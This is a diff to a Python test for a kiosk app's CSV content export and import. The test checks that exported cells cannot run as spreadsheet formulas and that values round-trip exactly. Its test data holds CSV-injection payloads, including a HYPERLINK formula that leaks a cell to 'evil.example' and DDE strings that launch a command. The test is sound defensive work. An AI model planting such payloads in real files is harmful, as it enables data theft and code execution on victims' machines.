@@ -22,8 +22,9 @@ from cxkiosk.report import build_report, render_csv
 FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "'=already quoted", "''double", "=", "-", "=1+1\r\n=2+2"]
-# What the importer keeps of a text: surrounding white space is not (as in the admin panel).
-STORED = [f for f in FORMULAS if f == f.strip()]
+# What the importer keeps of a text: surrounding white space is not (as in the admin panel), and
+# only a description may hold line breaks.
+STORED = [f for f in FORMULAS if f == f.strip() and not set(f) & set("\r\n\t")]
 
 
 def spreadsheet_would_run(cell: str) -> bool:
@@ -49,16 +50,18 @@ def test_content_export_is_safe_to_open_and_imports_back_exactly(db, tmp_path):
     for n, formula in enumerate(STORED):
         Content.create(title=formula, description=formula, tagline=formula, keywords="",
                        url=f"https://example.com/{n}", kind="web")
+    Content.create(title="multi-line", description="=1+1\r\n=2+2", url="https://example.com/m", kind="web")
+    STORED_ALL = [*STORED, "multi-line"]
     path = tmp_path / "content.csv"
-    assert export_file(path) == len(STORED)
+    assert export_file(path) == len(STORED_ALL)
     with path.open(encoding="utf-8", newline="") as fh:
         rows = list(csv.reader(fh))
     assert not [cell for row in rows for cell in row if spreadsheet_would_run(cell)]
     Content.delete().execute()
     result = import_file(path)
-    assert (result.added, result.errors) == (len(STORED), [])
-    assert sorted(c.title for c in Content.select()) == sorted(STORED)
-    assert {c.description for c in Content.select()} == set(STORED)
+    assert (result.added, result.errors) == (len(STORED_ALL), [])
+    assert sorted(c.title for c in Content.select()) == sorted(STORED_ALL)
+    assert {c.description for c in Content.select()} == {*STORED, "=1+1\r\n=2+2"}
     again = tmp_path / "again.csv"
     export_file(again)
     assert again.read_bytes() == path.read_bytes()
